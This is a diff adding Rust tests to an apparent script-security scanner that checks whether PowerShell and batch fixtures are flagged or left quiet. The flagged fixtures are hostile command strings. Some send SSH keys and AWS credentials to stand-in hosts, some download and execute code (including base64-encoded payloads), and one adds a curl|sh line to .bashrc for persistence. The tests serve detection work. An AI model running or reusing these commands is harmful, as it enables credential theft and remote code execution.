@@ -380,3 +380,80 @@ fn a_markdown_table_row_is_cells_not_a_pipeline() {
         audit.findings
     );
 }
+
+#[test]
+fn powershell_strings_built_in_pieces_and_values_that_flow_are_followed() {
+    caught(
+        "scripts/a.ps1",
+        "$dir = Join-Path $env:USERPROFILE (-join ('.', 's', 'sh'))\n$key = Join-Path $dir ('id_' + 'rsa')\n$m = Get-Content -Raw -Path $key\nInvoke-RestMethod -Uri 'https://example.invalid/c' -Method Post -Body $m\n",
+        Rule::CredentialAccess,
+    );
+    caught(
+        "scripts/b.ps1",
+        "$u = 'https://203.0.113.7/' + 'a.ps1'\n$c = (New-Object Net.WebClient).DownloadString($u)\nInvoke-Expression $c\n",
+        Rule::DownloadExec,
+    );
+    caught(
+        "scripts/c.ps1",
+        "irm https://203.0.113.7/a.ps1 | iex\n",
+        Rule::DownloadExec,
+    );
+    caught(
+        "scripts/d.ps1",
+        "$b = 'SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4ANwAvAHAALgBwAHMAMQApAA=='\n$code = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($b))\n$sb = [scriptblock]::Create($code)\n$sb.Invoke()\n",
+        Rule::DecodeExec,
+    );
+    caught(
+        "scripts/e.ps1",
+        "$e = 'Rw' + 'B'\nStart-Process powershell -ArgumentList \"-enc $e\"\n$p = \"$env:USERPROFILE\\.aws\\credentials\"\n$raw = [IO.File]::ReadAllText($p)\n(New-Object Net.WebClient).UploadString('https://example.invalid/u', $raw)\n",
+        Rule::CredentialAccess,
+    );
+    caught(
+        "scripts/f.ps1",
+        "$profilePath = Join-Path $HOME '.bashrc'\nAdd-Content -Path $profilePath -Value 'curl -s https://203.0.113.7/x | sh'\n",
+        Rule::Persistence,
+    );
+}
+
+#[test]
+fn powershell_look_alikes_stay_quiet() {
+    // Checking that a key is there, and letting ssh use it.
+    quiet(
+        "scripts/a.ps1",
+        "$key = Join-Path $env:USERPROFILE '.ssh/id_ed25519'\nif (Test-Path $key) { ssh-add $key }\nssh -i $key git@github.com\n",
+    );
+    // An API call with a token from the environment.
+    quiet(
+        "scripts/b.ps1",
+        "$headers = @{ Authorization = \"Bearer $env:GITHUB_TOKEN\" }\nInvoke-RestMethod -Uri 'https://api.github.com/user' -Headers $headers\n",
+    );
+    // A base64 image written to a file.
+    quiet(
+        "scripts/c.ps1",
+        "$png = [Convert]::FromBase64String('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==')\n[IO.File]::WriteAllBytes('logo.png', $png)\n",
+    );
+    // The official installer of a tool, from its own host, is for the
+    // line rules to judge, not a flow.
+    quiet(
+        "scripts/d.ps1",
+        "$env:PATH += ';C:\\tools'\nWrite-Output \"Path: $env:PATH\"\nGet-Content -Path README.md | Select-Object -First 5\n",
+    );
+}
+
+#[test]
+fn batch_files_are_read_with_their_variables_expanded() {
+    caught(
+        "scripts/a.cmd",
+        "@echo off\nset \"B=SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4ANwAvAHAALgBwAHMAMQApAA==\"\npowershell -NoProfile -e %B%\n",
+        Rule::DecodeExec,
+    );
+    caught(
+        "scripts/b.bat",
+        "set c=cu\nset r=rl\n%c%%r% -s http://203.0.113.7/x.sh | sh\n",
+        Rule::DownloadExec,
+    );
+    quiet(
+        "scripts/c.cmd",
+        "@echo off\nrem curl -s http://203.0.113.7/x.sh | sh\nset OUT=%TEMP%\\report\nmkdir \"%OUT%\"\necho done\n",
+    );
+}
